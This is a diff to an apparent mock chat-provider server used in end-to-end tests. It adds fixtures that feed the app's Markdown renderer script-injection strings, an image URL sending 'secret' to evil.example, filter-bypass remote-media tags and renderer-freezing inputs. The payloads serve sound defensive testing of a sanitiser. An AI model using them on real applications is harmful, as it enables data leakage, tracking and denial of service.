@@ -12,6 +12,9 @@
  *       #xss   a reply full of script-injection attempts
  *       #broken a provider error before any text, every time
  *       #rich  a wide table, maths (inline, display, a price that is not maths) and a task list
+ *       #hostile  ~135 KB of Markdown that froze or crashed the renderer (deep quotes and lists,
+ *              emphasis and bracket runs, one huge paragraph), in 500-character chunks
+ *       #media  remote media in every syntax a filter missed (backslash URLs, srcset, posters, …)
  *     and it answers the server's title requests with the first words of the message, so
  *     titles are predictable (and carry any payload the message had);
  *   - the real server (`bun server/index.ts`) serving the built app from web/build.
@@ -49,6 +52,38 @@ const XSS_REPLY = [
   '<a href="#" onclick="window.__xss=\'onclick\'">raw link</a>',
   '![exfiltrate](https://evil.example/collect?q=secret)',
   '<details open ontoggle="window.__xss=\'toggle\'"><summary>x</summary></details>',
+].join('\n\n');
+
+const HOSTILE_REPLY = [
+  'Hostile reply follows.',
+  '>'.repeat(3000) + ' deep quote',
+  '_a'.repeat(15000),
+  '*a'.repeat(15000),
+  Array.from({ length: 150 }, (_, i) => '  '.repeat(i) + '- item').join('\n'),
+  '['.repeat(20000),
+  'word '.repeat(6000),
+  'The end of the hostile reply.',
+].join('\n\n');
+/** Exact pieces of `size` characters (a reply that is mostly one "word" would not stream otherwise). */
+const slices = (text: string, size: number) => Array.from({ length: Math.ceil(text.length / size) }, (_, i) => text.slice(i * size, (i + 1) * size));
+
+const MEDIA_REPLY = [
+  'Remote media, none of which may load:',
+  // Markdown unescapes each pair, so the image's src is "\\evil.example/a.png": another host to a browser.
+  '![backslash](\\\\\\\\evil.example/a.png)',
+  '![slash-backslash](/\\evil.example/b.png)',
+  '<img src="/\\evil.example/c.png" alt="raw backslash">',
+  '<img src="/icons/icon-192.png" srcset="https://evil.example/d.png 2x" alt="srcset">',
+  '<video poster="https://evil.example/e.png" src="https://evil.example/f.mp4" controls></video>',
+  '<audio src="https://evil.example/g.mp3" autoplay></audio>',
+  '<picture><source srcset="https://evil.example/h.png"><img src="/icons/icon-192.png" alt="picture"></picture>',
+  '<input type="image" src="https://evil.example/i.png">',
+  '<object data="https://evil.example/j.svg"></object>',
+  '<embed src="https://evil.example/k.svg">',
+  '<table background="https://evil.example/l.png"><tr><td>table</td></tr></table>',
+  '<link rel="stylesheet" href="https://evil.example/m.css">',
+  '![protocol-relative](//evil.example/n.png)',
+  'The end of the media reply.',
 ].join('\n\n');
 
 const CODE_REPLY = [
@@ -185,6 +220,8 @@ const directives = Bun.serve({
     if (text.includes('#code')) return chunked(words(CODE_REPLY), 15);
     if (text.includes('#xss')) return chunked(words(XSS_REPLY), 5);
     if (text.includes('#rich')) return chunked(words(RICH_REPLY), 5);
+    if (text.includes('#hostile')) return chunked(slices(HOSTILE_REPLY, 500), 5);
+    if (text.includes('#media')) return chunked(words(MEDIA_REPLY), 5);
     // Fails before any text, every time.
     if (text.includes('#broken')) return chunked(['never sent'], 0, 0);
     // Fails the first time for a given message, so Retry can succeed.
